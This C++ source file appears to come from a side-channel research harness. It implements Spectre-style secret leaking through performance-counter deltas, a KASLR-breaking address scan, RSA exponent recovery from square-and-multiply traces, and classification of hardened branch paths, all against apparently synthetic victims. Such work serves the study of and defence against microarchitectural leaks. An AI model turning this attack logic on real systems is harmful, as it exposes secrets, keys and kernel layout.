#include "studies.hpp"

#include <cmath>

#include "errors.hpp"
#include "stats.hpp"

namespace regleak {

namespace {

CounterSelector make_selector(const std::string& event, uint32_t index) {
  CounterSelector selector;
  selector.event_name = event;
  selector.counter_index = index;
  selector.programmed_by = CounterProgramming::PreExisting;
  return selector;
}

CounterLeakOptions leak_options(int bytes) {
  CounterLeakOptions options;
  options.bytes = bytes;
  return options;
}

}  // namespace

// --------------------------------------------------------------------------

SpectreStudy::SpectreStudy(Harness& harness, SpectreGadget& gadget, SpectreStudyOptions options)
    : harness_(harness),
      gadget_(gadget),
      options_(options),
      leak_(harness, make_selector(options.counter_event, options.counter_index), ChannelConfig{},
            leak_options(options.bytes)) {
  if (gadget_.array_size() < 2)
    raise(ErrorCode::InvalidArgument, "gadget array needs the two calibration bytes");
  if (gadget_.array_byte(0) != 0x00 || gadget_.array_byte(1) != 0xFF)
    raise(ErrorCode::InvalidArgument,
          "calibration anchors missing: array[0] must be 0x00 and array[1] 0xff");
}

int64_t SpectreStudy::sample_delta(size_t index, unsigned bit) {
  return leak_.leak_delta([&] {
    harness_.mistrain_inplace([&] { gadget_.access(0, bit); }, options_.mistrain_rounds);
    gadget_.access(index, bit);
  });
}

double SpectreStudy::median_delta(size_t index, unsigned bit, int samples) {
  std::vector<double> deltas;
  deltas.reserve(samples);
  for (int i = 0; i < samples; ++i)
    deltas.push_back(static_cast<double>(sample_delta(index, bit)));
  return stats::median(std::move(deltas));
}

void SpectreStudy::calibrate() {
  // Index 0 holds 0x00, index 1 holds 0xff: architectural accesses there
  // give clean no-division and division distributions on this counter.
  double clear_median = median_delta(0, 0, options_.calibration_samples);
  double set_median = median_delta(1, 0, options_.calibration_samples);
  if (set_median - clear_median < 1.0)
    raise(ErrorCode::NoSignal, "division activity does not move the counter");
  threshold_ = (clear_median + set_median) / 2.0;
  calibrated_ = true;
}

int SpectreStudy::leak_bit(size_t secret_index, unsigned bit) {
  if (!calibrated_) calibrate();
  size_t index = gadget_.secret_index(secret_index);
  double m = median_delta(index, bit, options_.samples_per_bit);
  return m > threshold_ ? 1 : 0;
}

std::vector<uint8_t> SpectreStudy::leak_secret(size_t offset, size_t count) {
  std::vector<uint8_t> bytes;
  bytes.reserve(count);
  for (size_t k = 0; k < count; ++k) {
    uint8_t value = 0;
    for (unsigned bit = 0; bit < 8; ++bit)
      value |= static_cast<uint8_t>(leak_bit(offset + k, bit)) << bit;
    bytes.push_back(value);
  }
  return bytes;
}

// --------------------------------------------------------------------------

KaslrResult kaslr_scan(Harness& harness, const std::vector<uintptr_t>& candidates,
                       const KaslrStudyOptions& options) {
  if (candidates.size() < 8)
    raise(ErrorCode::InvalidArgument, "need at least 8 candidate addresses");

  CounterLeak leak(harness, make_selector(options.counter_event, options.counter_index),
                   ChannelConfig{}, leak_options(options.bytes));

  KaslrResult result;
  result.deltas.reserve(candidates.size());
  Backend& backend = harness.backend();
  for (uintptr_t address : candidates) {
    int64_t delta = leak.leak_delta(
        [&] { harness.run_transient([&] { backend.transient_touch(address); }); });
    result.deltas.push_back(delta);
  }

  std::vector<double> as_double(result.deltas.begin(), result.deltas.end());
  result.median = stats::median(as_double);
  result.mad = std::max(stats::mad(as_double, result.median), options.mad_floor);

  int64_t lowest = 0;
  bool have_anomaly = false;
  for (size_t i = 0; i < result.deltas.size(); ++i) {
    double deviation = std::fabs(static_cast<double>(result.deltas[i]) - result.median);
    if (deviation / result.mad > options.mad_threshold) {
      result.anomalies.push_back(i);
      if (!have_anomaly || result.deltas[i] < lowest) {
        lowest = result.deltas[i];
        result.detected_index = i;
        have_anomaly = true;
      }
    }
  }
  if (!have_anomaly)
    raise(ErrorCode::NoAnomaly, "no candidate deviates from the page-walk baseline");
  return result;
}

// --------------------------------------------------------------------------

std::vector<int64_t> rsa_capture_trace(CounterLeak& leak, SquareMultiplyVictim& victim) {
  victim.reset();
  std::vector<int64_t> trace;
  trace.reserve(victim.bit_count());
  while (!victim.done()) trace.push_back(leak.leak_delta([&] { victim.step(); }));
  return trace;
}

RsaRecovery rsa_recover(const std::vector<std::vector<int64_t>>& traces) {
  if (traces.empty()) raise(ErrorCode::InvalidArgument, "no traces");
  size_t bits = traces.front().size();
  if (bits == 0) raise(ErrorCode::InvalidArgument, "traces are empty");
  for (const auto& trace : traces)
    if (trace.size() != bits) raise(ErrorCode::InvalidArgument, "traces have unequal lengths");

  std::vector<double> per_bit_mean(bits, 0.0);
  for (const auto& trace : traces)
    for (size_t i = 0; i < bits; ++i) per_bit_mean[i] += static_cast<double>(trace[i]);
  for (double& m : per_bit_mean) m /= static_cast<double>(traces.size());

  RsaRecovery recovery;
  recovery.kurtosis = stats::excess_kurtosis(per_bit_mean);
  stats::TwoMeans clusters = stats::two_means(per_bit_mean);
  recovery.low_center = clusters.low_center;
  recovery.high_center = clusters.high_center;

  // Bimodality gate: balanced keys show strongly negative kurtosis; lopsided
  // ones still split into two well-separated clusters.
  bool bimodal = recovery.kurtosis < -0.5;
  if (!bimodal && clusters.low_count > 0 && clusters.high_count > 0) {
    std::vector<double> spread_lo, spread_hi;
    double split = (clusters.low_center + clusters.high_center) / 2.0;
    for (double m : per_bit_mean)
      (m <= split ? spread_lo : spread_hi).push_back(m);
    double sigma = std::max({stats::mad(spread_lo, clusters.low_center),
                             stats::mad(spread_hi, clusters.high_center), 1e-9});
    bimodal = (clusters.high_center - clusters.low_center) / sigma > 4.0;
  }
  if (!bimodal || clusters.low_count == 0 || clusters.high_count == 0)
    raise(ErrorCode::DegenerateDistribution,
          "per-bit means do not separate into square and multiply modes");

  double threshold = (clusters.low_center + clusters.high_center) / 2.0;
  recovery.bits.reserve(bits);
  for (double m : per_bit_mean) recovery.bits.push_back(m > threshold);
  return recovery;
}

// --------------------------------------------------------------------------

ZigzagStudy::ZigzagStudy(Harness& harness, ZigzaggerVictim& victim, ZigzagStudyOptions options)
    : harness_(harness),
      victim_(victim),
      options_(options),
      leak_(harness, make_selector(options.counter_event, options.counter_index), ChannelConfig{},
            leak_options(options.bytes)) {}

void ZigzagStudy::calibrate() {
  baselines_.clear();
  for (int selector = 0; selector < 3; ++selector) {
    std::vector<double> deltas;
    deltas.reserve(options_.calibration_samples);
    for (int i = 0; i < options_.calibration_samples; ++i)
      deltas.push_back(
          static_cast<double>(leak_.leak_delta([&] { victim_.run_hardened(selector, i); })));
    baselines_.push_back(stats::median(std::move(deltas)));
  }
  for (int a = 0; a < 3; ++a)
    for (int b = a + 1; b < 3; ++b)
      if (baselines_[a] == baselines_[b])
        raise(ErrorCode::AmbiguousBaselines,
              "paths " + std::to_string(a) + " and " + std::to_string(b) +
                  " retire indistinguishable instruction counts");
}

int ZigzagStudy::classify(const std::function<void()>& unknown_run) {
  if (baselines_.empty()) calibrate();
  std::vector<double> deltas;
  deltas.reserve(options_.samples);
  for (int i = 0; i < options_.samples; ++i)
    deltas.push_back(static_cast<double>(leak_.leak_delta(unknown_run)));
  double m = stats::median(std::move(deltas));

  int best = 0;
  double best_distance = std::fabs(m - baselines_[0]);
  for (int selector = 1; selector < 3; ++selector) {
    double distance = std::fabs(m - baselines_[selector]);
    if (distance < best_distance) {
      best = selector;
      best_distance = distance;
    }
  }
  return best;
}

}  // namespace regleak
